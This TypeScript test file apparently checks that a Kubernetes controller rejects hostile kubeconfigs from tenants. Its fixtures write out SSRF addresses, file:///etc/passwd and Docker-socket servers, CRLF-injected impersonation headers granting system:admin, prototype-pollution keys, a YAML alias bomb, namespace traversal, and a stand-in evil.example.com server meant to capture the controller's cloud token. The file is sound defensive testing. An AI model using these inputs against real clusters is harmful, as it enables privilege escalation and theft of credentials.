import { expect } from 'vitest'
import { type Attack, absent, both, configMap, fails, sendsNothing } from './attack.ts'
import { OWN_SECRET, type World } from './world.ts'

interface Kubeconfig {
  readonly cluster: (world: World) => Readonly<Record<string, unknown>>
  readonly user?: Readonly<Record<string, unknown>>
  readonly spec?: string
  readonly want?: Attack['want']
  readonly file?: string
}

function secret(name: string, text: string): string {
  return `apiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: tenant-a}\ndata: {value: ${Buffer.from(text).toString('base64')}}\n`
}

function opened(name: string, does: string, config: Kubeconfig): Attack {
  const { cluster, user = { token: 'x' }, spec = '', want = fails(/./), file } = config
  return {
    name,
    does,
    files: { 'a.yaml': file ?? configMap(name) },
    objects: (world) =>
      secret(
        name,
        JSON.stringify({
          'current-context': 'c',
          contexts: [{ name: 'c', context: { cluster: 'c', user: 'u' } }],
          clusters: [{ name: 'c', cluster: cluster(world) }],
          users: [{ name: 'u', user }],
        }),
      ),
    spec: `kubeConfig: {secretRef: {name: ${name}}}\n  retryInterval: 1h\n  timeout: 20s${spec}`,
    want,
  }
}

function text(name: string, does: string, content: string, want = fails(/./)): Attack {
  return {
    name,
    does,
    files: { 'a.yaml': configMap(name) },
    objects: () => secret(name, content),
    spec: `kubeConfig: {secretRef: {name: ${name}}}\n  retryInterval: 1h`,
    want,
  }
}

function mapped(
  name: string,
  does: string,
  data: string | ((world: World) => string),
  want = fails(/./),
): Attack {
  return {
    name,
    does,
    files: { 'a.yaml': configMap(name) },
    objects: (world) =>
      `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ${name}, namespace: tenant-a}\ndata: {${typeof data === 'string' ? data : data(world)}}\n`,
    spec: `kubeConfig: {configMapRef: {name: ${name}}}\n  retryInterval: 1h`,
    want,
  }
}

const evil =
  (path: string) =>
  (world: World): Readonly<Record<string, unknown>> => ({ server: `${world.evil.url}${path}` })

/** Clusters that the attacker names, and servers of its own that answer as no cluster does. */
export const REMOTES: readonly Attack[] = [
  opened('remote-proxy', 'has an internal host asked as the proxy of a cluster', {
    cluster: (world) => ({
      server: 'http://127.0.0.1:1/remote-proxy',
      'proxy-url': `${world.internal.url}/remote-proxy`,
    }),
  }),
  opened('remote-redirect', 'is redirected to an internal host by its own cluster', {
    cluster: evil('/redirect/remote-redirect'),
    want: both(fails(/./), sendsNothing),
  }),
  opened('remote-endless', 'answers discovery without end', { cluster: evil('/endless') }),
  opened('remote-deep', 'answers with JSON that nests without end', { cluster: evil('/deep') }),
  opened('remote-empty', 'answers everything with an empty object', { cluster: evil('/empty') }),
  opened('remote-proto', 'answers with keys that change all objects', {
    cluster: evil('/proto'),
    want: both(fails(/./), ({ world }) => expect(world.isRunning()).toBe(true)),
  }),
  opened('remote-headers', 'answers with headers that never end', { cluster: evil('/headers') }),
  opened('remote-file', 'names a file of the host as a cluster', {
    cluster: () => ({ server: 'file:///etc/passwd' }),
  }),
  opened('remote-unix', 'names a socket of the host as a cluster', {
    cluster: () => ({ server: 'unix:///var/run/docker.sock' }),
  }),
  opened('remote-as', 'is an administrator of its own cluster by the words of its kubeconfig', {
    cluster: () => ({ server: 'https://kubernetes.default.svc' }),
    user: { token: 'x', as: 'system:admin', 'as-groups': ['system:masters'] },
    file: 'apiVersion: v1\nkind: Namespace\nmetadata: {name: remote-as}\n',
    want: both(fails(/./), absent('Namespace', '', 'remote-as')),
  }),
  opened('remote-token-lines', 'puts headers of its own behind a token', {
    cluster: evil('/remote-token-lines'),
    user: { token: 'x\r\nImpersonate-User: system:admin' },
    want: both(fails(/./), ({ world }) => expect(world.isRunning()).toBe(true)),
  }),
  opened('remote-certificate', 'has a client key quoted that is none', {
    cluster: () => ({ server: 'https://127.0.0.1:1' }),
    user: {
      'client-certificate-data': Buffer.from(OWN_SECRET).toString('base64'),
      'client-key-data': Buffer.from(OWN_SECRET).toString('base64'),
    },
  }),
  opened('remote-insecure', 'has the certificate of a cluster go unchecked', {
    cluster: (world) => ({
      server: world.internal.url.replace('http', 'https'),
      'insecure-skip-tls-verify': true,
    }),
    want: both(fails(/./), sendsNothing),
  }),
  opened('remote-user', 'hides who it is in the address of a cluster', {
    cluster: (world) => ({
      server: world.internal.url.replace('http://', `http://git:${OWN_SECRET}@`),
    }),
  }),
  opened('remote-account', "acts as somebody else's account in its own cluster", {
    cluster: evil('/empty'),
    spec: '\n  serviceAccountName: "x\\r\\nImpersonate-Group: system:masters"',
    want: fails(/invalid service account name|must be/),
  }),
  text('remote-bomb', 'unfolds a kubeconfig by aliases', bombOf(9)),
  text(
    'remote-wide',
    'fills a kubeconfig with contexts',
    JSON.stringify({
      'current-context': 'c19999',
      contexts: Array.from({ length: 20_000 }, (_, i) => ({ name: `c${i}`, context: {} })),
    }),
  ),
  text('remote-nothing', 'has a kubeconfig that is a number', '7'),
  {
    name: 'remote-key',
    does: 'names a key of a Secret that all objects have',
    files: { 'a.yaml': configMap('remote-key') },
    spec: 'kubeConfig: {secretRef: {name: login, key: __proto__}}\n  retryInterval: 1h',
    want: fails(/does not contain|missing|no configuration/),
  },
  mapped(
    'map-provider',
    'names a provider that all objects have',
    'provider: constructor, address: "https://127.0.0.1:1"',
    fails(/provider 'constructor' not implemented/),
  ),
  mapped(
    'map-region',
    'leads a login to another host by the region of a cluster',
    ({ internal }) =>
      `provider: aws, cluster: "arn:aws:eks:${internal.url.slice(7).split(':')[0]}/?:111111111111:cluster/x"`,
    fails(/invalid (AWS region|eks.amazonaws.com|EKS cluster ARN)/),
  ),
  mapped(
    'map-climb',
    'climbs in the API of a cloud by the name of a cluster',
    'provider: gcp, cluster: "projects/../locations/l/clusters/c"',
  ),
  mapped(
    'map-controller',
    'gets the access of the controller to a cloud for a server of its own',
    'provider: azure, address: "https://evil.example.com", ca.crt: x',
    fails(
      /failed to get access token for cluster: failed to create provider access token for service account/,
    ),
  ),
  mapped(
    'map-address',
    'has an internal host asked as a cluster',
    ({ internal }) => `provider: generic, address: "${internal.url.replace('http', 'https')}"`,
    both(fails(/./), sendsNothing),
  ),
  mapped(
    'map-user',
    'hides a host behind a user in the address of a cluster',
    'provider: generic, address: "https://kubernetes.default.svc@127.0.0.1:1"',
    fails(/failed to parse cluster address/),
  ),
  {
    name: 'map-foreign',
    does: 'opens a cluster by a ConfigMap of another namespace',
    files: { 'a.yaml': configMap('map-foreign') },
    spec: 'kubeConfig: {configMapRef: {name: ../../tenant-b/configmaps/victim}}\n  retryInterval: 1h',
    want: fails(/failed to get configmap/),
  },
  {
    name: 'map-both',
    does: 'names a Secret and a ConfigMap at once',
    files: { 'a.yaml': configMap('map-both') },
    spec: 'kubeConfig: {configMapRef: {name: victim}, secretRef: {name: login}}\n  retryInterval: 1h',
    want: both(
      ({ object, refused }) => {
        if (object === undefined) expect(refused.join()).toMatch(/exactly one/)
      },
      absent('ConfigMap', 'tenant-a', 'map-both'),
    ),
  },
]

function bombOf(depth: number): string {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x]']
  for (let i = 1; i <= depth; i += 1)
    lines.push(`a${i}: &a${i} [${Array.from({ length: 9 }, () => `*a${i - 1}`).join(', ')}]`)
  return `${lines.join('\n')}\n`
}
